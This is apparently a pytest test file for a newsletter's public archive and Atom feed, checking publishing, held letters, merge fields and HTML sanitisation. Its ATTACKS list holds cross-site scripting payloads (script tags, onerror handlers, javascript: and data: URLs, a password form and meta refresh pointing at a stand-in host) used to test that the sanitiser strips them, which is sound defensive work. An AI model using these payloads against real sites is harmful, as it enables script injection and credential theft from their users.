"""The public archive: published letters without active content."""

import re
from datetime import timedelta
from html import unescape
from xml.etree import ElementTree

import pytest
from django.db.models import F

from delivery.models import Edition, Newsletter
from publishing.content.edition_content import Content
from publishing.content.sanitise_html import sanitise_html
from publishing.models import Issue
from publishing.publish.publish_edition import publish
from tests.publishing.content_factory import letter

pytestmark = pytest.mark.django_db(transaction=True)

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def print_letter(author):
    """Publish a letter and return the address of its page in the archive."""

    def publish_it(*, hold_s=0, **content):
        key = f"k{Edition.objects.count()}"
        edition = publish(author.pk, key, letter(**content), hold_s=hold_s).edition
        return f"/archive/{Issue.objects.get(pk=edition.issue_id).slug}/"

    return publish_it


def test_a_letter_is_at_the_archive_address_in_its_mail(public_window, print_letter):
    address = print_letter(title="On the patience of herons")

    page = public_window.get(address)

    assert page.status == 200
    assert Edition.objects.get().archive_url == f"https://letter.example.org{address}"
    assert page.html.count("<h1") == 1
    assert "On the patience of herons" in page.title
    assert "Edith Marlow" in page.words
    assert public_window.get("/archive/no-such-letter/").status == 404
    listed = public_window.get("/archive/")
    assert f'href="{address}"' in listed.html


def test_a_held_letter_is_not_in_the_archive(public_window, print_letter):
    address = print_letter(title="Not yet", hold_s=3600)

    assert public_window.get(address).status == 404
    assert "Not yet" not in public_window.get("/archive/").words
    assert "Not yet" not in public_window.get("/archive/feed.xml").html

    Edition.objects.update(
        published_at=F("published_at") - timedelta(hours=2),
        held_until=F("held_until") - timedelta(hours=2),
    )
    assert public_window.get(address).status == 200


def test_merge_fields_are_filled_for_nobody_in_particular(public_window, print_letter):
    address = print_letter(
        title="For {{ name|you }}",
        html="<p>Dear {{ name|reader }}, <i>{{ name }}{{ email }}</i>"
        '<a href="{{ unsubscribe_url }}">leave</a> <a href="{{ archive_url }}">web</a>'
        '<a href="{{ preferences_url }}">topics</a></p>',
    )

    page = public_window.get(address)

    assert "For you" in page.title
    assert "Dear reader, <i></i>" in page.html
    # The site does not know who reads the page, so its links lead to forms that ask for an address.
    assert 'href="https://letter.example.org/unsubscribe/"' in page.html
    assert 'href="https://letter.example.org/record/"' in page.html
    assert "Email me the link" in public_window.get("/unsubscribe/").words
    assert f'href="https://letter.example.org{address}"' in page.html
    assert "{{" not in page.html


def test_links_and_braces_arrive_in_archive_and_feed(public_window, print_letter):
    address = print_letter(
        html='<p><a href="https://x.org/?e={{ email }}&amp;n={{ name|a friänd &amp; co }}">x</a>'
        r"<pre>${{ secrets.X }} src='/a.js'</pre> \{{ y }} &#123;&#123; z &#125;&#125;"
    )
    for page in (public_window.get(address), public_window.get("/archive/feed.xml")):
        shown = unescape(unescape(page.source))
        for words in ("?e=&n=a%20fri%C3%A4nd%20%26%20co", "${{ secrets.X }}", "{{ y }} {{ z }}"):
            assert words in shown
        assert "src='/a.js'" in shown


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(https://spy.example/alert(1))'>x</p>",
    "<style>@import 'https://spy.example/alert(1)'</style>",
    "<iframe src='https://spy.example/alert(1)'></iframe>",
    "<form action='https://spy.example/alert(1)'><input name=password></form>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<meta http-equiv=refresh content='0;url=https://spy.example/alert(1)'>",
    "<base href='https://spy.example/alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    # If control characters were removed last, these addresses would become dangerous.
    "<a href='java&#7;script:alert(1)'>x</a><img src='ht&#11;tp://spy.example/'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_letter_can_act_on_the_site(attack):
    body = sanitise_html(f"<p>before</p>{attack}<p>after</p>")

    assert "alert(1)" not in body
    assert "spy.example" not in body
    assert not re.search(r"<(script|style|iframe|form|input|svg|meta|base|math)\b|\son\w+=", body)
    assert "before" in body


def test_page_and_feed_remove_active_content(public_window, print_letter):
    for address in (print_letter(html=f"<p>before</p>{''.join(ATTACKS)}"), "/archive/feed.xml"):
        page = public_window.get(address)
        assert "before" in page.html
        assert "alert(1)" not in page.html


def test_sanitising_keeps_what_a_letter_needs(public_window, print_letter):
    page = public_window.get(
        print_letter(
            html='<p class="open fault">A</p><h2>B</h2><ul><li>c</li></ul>'
            '<table><tr><th scope="col">d</th><td class="num">1</td></tr></table>'
            '<img src="https://example.org/a.png" alt="e"><img src="/static/a.png" alt="f">'
            '<img src="data:image/png;base64,AAAA" alt="g"><img src="http://example.org/a.png">'
            '<a href="https://example.org/">h</a><a href="mailto:a@example.org">i</a>'
        )
    )

    for kept in (
        '<p class="open">A</p>',
        "<h2>B</h2>",
        "<li>c</li>",
        'alt="e"',
        '<th scope="col">d</th>',
        '<td class="num">1</td>',
        'src="https://example.org/a.png"',
        'src="/static/a.png"',
        'src="data:image/png;base64,AAAA"',
        '<a href="https://example.org/" rel="noopener noreferrer nofollow">h</a>',
        'href="mailto:a@example.org"',
    ):
        assert kept in page.html
    assert 'src="http://example.org' not in page.html


def test_a_page_has_exactly_one_h1(public_window, print_letter):
    page = public_window.get(
        print_letter(
            title="Herons", html="<h1>  herons </h1><p>x</p><h1 lang=pt>Garças</h1><h2>Third</h2>"
        )
    )

    assert page.html.count("<h1") == 1
    assert '<h2 lang="pt">Garças</h2>' in page.html
    assert "herons </h" not in page.html


def test_a_plain_text_letter_gets_paragraphs_and_links(public_window, print_letter):
    page = public_window.get(
        print_letter(
            html="", text="Dear {{ name|reader }},\nhello <b>.\n\nSee https://example.org/x"
        )
    )

    assert "<p>Dear reader,<br>hello &lt;b&gt;.</p>" in page.html
    assert '<a href="https://example.org/x" rel="noopener noreferrer nofollow">' in page.html


def test_date_and_language_are_those_of_the_newsletter(public_window, print_letter):
    Newsletter.objects.update_or_create(
        pk=1, defaults={"time_zone": "Pacific/Kiritimati", "language": "en-GB"}
    )
    address = print_letter()
    day = Edition.objects.get().published_at.astimezone(Newsletter.objects.get().zone)

    page = public_window.get(address)

    assert f'datetime="{day:%Y-%m-%d}"' in page.html
    assert f"{day:%A} {day.day} {day:%B %Y}" in page.words
    assert '<div class="body" lang="en-GB" dir="ltr">' in page.html


# These characters are invisible, for example the line break that word processors use.
UNSEEN = ("\x0b", "\x0c", "\x07", "\x1b", "\x7f", "\ufffe", "\uffff")
AS_ENTITIES = ("&#11;", "&#12;", "&#7;", "&#x1b;", "&#xfffe;", "&#0;", "&#xd800;")


def entries_of(page):
    assert page.status == 200
    feed = ElementTree.fromstring(page.html)  # noqa: S314 -- our own feed
    return [entry.find(f"{ATOM}content").text for entry in feed.findall(f"{ATOM}entry")]


@pytest.mark.parametrize("part", ["html", "text"])
def test_control_characters_do_not_break_the_feed(public_window, print_letter, part):
    for unseen in UNSEEN + AS_ENTITIES:
        content = {"html": "", "text": "", part: f"Before {unseen} after"}
        address = print_letter(title=f"Herons{unseen}", **content)
        assert public_window.get(address).status == 200

    for summary in entries_of(public_window.get("/archive/feed.xml")):
        assert "Before" in summary
        assert "after" in summary


def test_stored_control_characters_do_not_break_the_feed(public_window, author):
    stored = Content(title="On\x07 herons", html="<p>They\x0bwait\x1b.</p>")
    publish(author.pk, "k", stored, hold_s=0)
    Newsletter.objects.update(name="Hedge\x07row", tagline="Slow\x0bly")

    page = public_window.get("/archive/feed.xml")

    assert entries_of(page) == ["<p>They wait.</p>"]
    assert "They\nwait." in page.answer.content.decode()
    assert "<title>On herons</title>" in page.html
